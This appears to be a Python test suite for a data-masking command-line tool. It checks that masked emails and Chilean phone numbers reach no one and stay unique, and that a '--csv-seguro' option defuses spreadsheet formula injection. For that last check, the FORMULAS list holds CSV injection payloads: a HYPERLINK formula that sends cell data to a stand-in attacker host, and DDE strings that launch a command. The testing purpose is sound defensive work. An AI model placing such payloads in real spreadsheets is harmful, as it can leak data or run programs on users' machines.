"""Issue 39, finding 7 (all but the headerless CSV): masked contact data must reach no one, persona
emails must stay unique, and `--csv-seguro` must keep a spreadsheet from running a cell
(docs/enmascarar.md, "Contact data that reaches no one" and "CSV for spreadsheets"). Judged from
outside: email-validator for the addresses, libphonenumber (phonenumbers) for the phones, Python's csv
module for the CSV. Fixed seeds and key: a failure names the row, the column and the value made."""
import csv
import io
import os
import subprocess

import phonenumbers
import pytest
from email_validator import validate_email

import datoteca
from conftest import ROOT

CLI = os.environ.get("DATOTECA_CLI", os.path.join(ROOT, "build-c", "datoteca"))
# The published test key (so a failure replays exactly), allowed by --clave-de-prueba.
CLAVE = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f"
N = 50000


def _enmascarar(tmp_path, reglas, entrada, extra=()):
    (tmp_path / "r.toml").write_text(reglas)
    (tmp_path / "k.hex").write_text(CLAVE + "\n")
    os.chmod(tmp_path / "k.hex", 0o600)
    return subprocess.run([CLI, "enmascarar", "--reglas", str(tmp_path / "r.toml"), "--clave-archivo",
                           str(tmp_path / "k.hex"), "--clave-de-prueba", *extra], input=entrada, capture_output=True)


REGLAS = """version = 1
[columnas]
rut = { regla = "rut" }
email = { regla = "persona", campo = "email", entidad = "rut" }
telefono = { regla = "persona", campo = "telefono", entidad = "rut" }
email_real = { regla = "persona", campo = "email", entidad = "rut", realista = true }
telefono_real = { regla = "persona", campo = "telefono", entidad = "rut", realista = true }
"""


@pytest.fixture(scope="module")
def contactos(tmp_path_factory):
    vistos, ruts = set(), []
    for p in datoteca.Tabla("persona.persona", seed=7, campos=["rut"]).filas(N + 500):
        if p["rut"] not in vistos:
            vistos.add(p["rut"])
            ruts.append(p["rut"])
    ruts = ruts[:N]
    assert len(ruts) == N
    entrada = "rut,email,telefono,email_real,telefono_real\n" + "".join(f"{r},x@y.cl,1,x@y.cl,1\n" for r in ruts)
    p = _enmascarar(tmp_path_factory.mktemp("c"), REGLAS, entrada.encode())
    assert p.returncode == 0, p.stderr.decode()
    filas = list(csv.DictReader(io.StringIO(p.stdout.decode())))
    assert len(filas) == N
    return filas


def test_persona_emails_are_unique_and_reserved(contactos):
    for col in ("email", "email_real"):
        vistos = {}
        for i, f in enumerate(contactos, start=1):
            e = f[col]
            assert e not in vistos, f"column {col}: rows {vistos[e]} and {i} share {e!r}"
            vistos[e] = i
        print(f"\n{col}: {len(vistos)} distinct addresses for {N} distinct entities")
    for i, f in enumerate(contactos, start=1):
        assert f["email"].endswith("@example.com"), f"row {i}, column email: {f['email']!r} is not under example.com"
        assert not f["email_real"].endswith("@example.com"), f"row {i}, column email_real: {f['email_real']!r}"
        if i % 10 == 0:
            validate_email(f["email"], check_deliverability=False)


def test_persona_phones_parse_as_chilean_and_are_unassigned(contactos):
    for i, f in enumerate(contactos, start=1):
        n = phonenumbers.parse(f["telefono"], None)
        assert n.country_code == 56 and phonenumbers.is_possible_number(n), f"row {i}: {f['telefono']!r}"
        assert not phonenumbers.is_valid_number(n) and str(n.national_number).startswith("90"), (
            f"row {i}, column telefono: {f['telefono']!r} is a valid (assignable) number")
        r = phonenumbers.parse(f["telefono_real"], None)
        assert phonenumbers.is_valid_number(r), f"row {i}, column telefono_real: {f['telefono_real']!r} not valid"


def test_realista_only_for_contact_fields(tmp_path):
    p = _enmascarar(tmp_path, 'version = 1\n[columnas]\nrut = { regla = "rut" }\n'
                              'n = { regla = "persona", campo = "nombres", entidad = "rut", realista = true }\n', b"rut,n\n")
    assert p.returncode == 2 and "columnas.n.realista must be true or false, and only with campo email or telefono" \
        in p.stderr.decode(), p.stderr.decode()


FORMULAS = ['=HYPERLINK("http://atacante.example/?"&A1,"ver")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_seguro_neutralises_formulas(tmp_path):
    reglas = 'version = 1\n[columnas]\nid = { regla = "mantener" }\nnota = { regla = "texto" }\n' \
             'saldo = { regla = "mantener" }\nfono = { regla = "mantener" }\n'
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a lone CR is read only in quotes
    w.writerow(["id", "nota", "saldo", "fono"])
    for i, f in enumerate(FORMULAS):
        w.writerow([str(i), f, "-1234" if i % 2 else "-$ 1.234", "+56 9 8765 4321"])
    entrada = out.getvalue().encode()
    sin = _enmascarar(tmp_path, reglas, entrada)
    con = _enmascarar(tmp_path, reglas, entrada, ["--csv-seguro"])
    assert sin.returncode == 0 and con.returncode == 0, (sin.stderr, con.stderr)
    sin_f = list(csv.DictReader(io.StringIO(sin.stdout.decode(), newline="")))
    con_f = list(csv.DictReader(io.StringIO(con.stdout.decode(), newline="")))
    for i, f in enumerate(FORMULAS):
        # without the option the cell goes out as it came (texto finds no personal data in it)
        assert sin_f[i]["nota"] == f, f"row {i + 1}: {sin_f[i]['nota']!r}"
        assert con_f[i]["nota"] == "'" + f, f"row {i + 1}, column nota, --csv-seguro: {con_f[i]['nota']!r}"
        # a negative amount and a phone with its '+' name no function: left as they are, numbers
        assert con_f[i]["saldo"] == ("-1234" if i % 2 else "-$ 1.234"), f"row {i + 1}: {con_f[i]['saldo']!r}"
        assert con_f[i]["fono"] == "+56 9 8765 4321", f"row {i + 1}: {con_f[i]['fono']!r}"
    p = _enmascarar(tmp_path, reglas, entrada, ["--csv-seguro", "--formato", "jsonl"])
    assert p.returncode == 2 and "--csv-seguro is for CSV output" in p.stderr.decode(), p.stderr.decode()


def test_csv_seguro_header(tmp_path):
    p = _enmascarar(tmp_path, 'version = 1\n[columnas]\n"=A1" = { regla = "mantener" }\n', b"=A1\n1\n", ["--csv-seguro"])
    assert p.returncode == 0 and p.stdout == b"\"'=A1\"\n1\n", (p.stdout, p.stderr)
